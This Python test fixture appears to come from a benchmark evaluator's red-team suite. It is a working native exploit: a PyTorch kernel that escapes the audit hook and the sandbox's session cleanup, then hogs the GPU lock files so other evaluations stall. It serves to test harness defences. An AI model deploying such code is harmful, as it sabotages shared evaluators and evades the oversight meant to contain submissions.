"""Exploit (native, destructive: holding the device lock). Passes nothing by itself.

The kernel is honest. On its first call the C++ forward forks a daemon (from C: the audit hook's
`os.fork` refusal never sees it) that calls `setsid` and forks again, so it leaves the worker's
session and process group (the sandbox kills a timed-out or finished worker's session; a process
that left it "is beyond reach"), is re-parented to init, and survives the sample. The daemon opens
every lock file in `$TMPDIR/../solbench-locks/` (the worker's TMPDIR is its sample folder inside the
evaluator's temporary directory, where `host_device_lock` keeps each GPU's `device-N.main` and
`.turnstile`), waits for the worker to exit (so its own sample is not held up), then takes
`flock(LOCK_EX)` on each, retrying until it holds them. Timing needs the
lock exclusively and every check needs it shared, so every evaluation on the host's GPUs stalls:
each sample then runs out its run limit (`timeout`) for as long as the daemon lives. This copy
holds the locks for kHoldSeconds (30 s) so that a test run cleans up after itself; an attacker
holds them forever. It also keeps any descriptor it inherited on a lock file (the worker's own:
flock locks belong to the open file description, so the worker's shared lock outlives it too).

How it is demonstrated (tests/cheats/test_native_cheats.py): the naive evaluator runs with TMPDIR
inside a scratch folder holding a `solbench-locks/device-0.main`; after it has passed and exited,
the test's own `flock(LOCK_EX | LOCK_NB)` on that file fails: the lock is still held. Through the
current harness (a CPU evaluation given a `device_lock`), the hog's own sample passes in its usual
time and the next sample on the same lock waits the full 30 s."""

import torch
from torch.utils.cpp_extension import load_inline

SOURCE = r"""
#include <torch/extension.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/file.h>
#include <sys/wait.h>
#include <unistd.h>
#include <climits>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <string>
#include <vector>

namespace {

const int kHoldSeconds = 30;  // an attacker: forever

bool keep_inherited(int fd) {  // the worker's own lock files
    char target[PATH_MAX] = {0};
    std::string link = "/proc/self/fd/" + std::to_string(fd);
    return readlink(link.c_str(), target, sizeof target - 1) > 0 && std::strstr(target, "solbench-locks");
}

bool alive(pid_t pid) {  // and not a zombie waiting to be reaped
    char buf[512] = {0};
    int fd = open(("/proc/" + std::to_string(pid) + "/stat").c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return false;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    const char* after = n > 0 ? std::strrchr(buf, ')') : nullptr;
    return after != nullptr && after[2] != 'Z' && after[2] != 'X';
}

void hold_locks(const std::string& folder, pid_t worker) {
    for (int fd = 0; fd < 1024; ++fd)  // let the worker's stdout and pipes go: nobody waits on us
        if (!keep_inherited(fd)) close(fd);
    while (alive(worker)) usleep(1000);  // its own sample finishes first, unhindered
    std::vector<int> held;
    if (DIR* dir = opendir(folder.c_str())) {
        while (dirent* e = readdir(dir)) {
            if (e->d_name[0] == '.') continue;
            int fd = open((folder + "/" + e->d_name).c_str(), O_RDWR | O_CLOEXEC);
            if (fd >= 0) held.push_back(fd);
        }
        closedir(dir);
    }
    time_t until = time(nullptr) + kHoldSeconds;
    std::vector<bool> locked(held.size(), false);
    while (time(nullptr) < until) {
        for (size_t i = 0; i < held.size(); ++i)
            if (!locked[i]) locked[i] = flock(held[i], LOCK_EX | LOCK_NB) == 0;
        usleep(1000);
    }
}

void start_daemon() {
    const char* tmp = std::getenv("TMPDIR");
    std::string folder = std::string(tmp ? tmp : "/tmp") + "/../solbench-locks";
    pid_t worker = getpid();
    pid_t child = fork();
    if (child == 0) {
        setsid();
        if (fork() == 0) {
            hold_locks(folder, worker);
        }
        _exit(0);
    }
    if (child > 0) waitpid(child, nullptr, 0);  // the middle process exits at once
}

}  // namespace

torch::Tensor scale_shift(torch::Tensor x) {
    static bool started = (start_daemon(), true);
    (void)started;
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    const float* in = xc.data_ptr<float>();
    float* out = y.data_ptr<float>();
    for (int64_t i = 0; i < xc.numel(); ++i) out[i] = in[i] * 2.0f + 1.0f;
    return y;
}
"""

ext = load_inline(name="rt_lock_hog", cpp_sources=SOURCE, functions=["scale_shift"], verbose=False)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return ext.scale_shift(x)
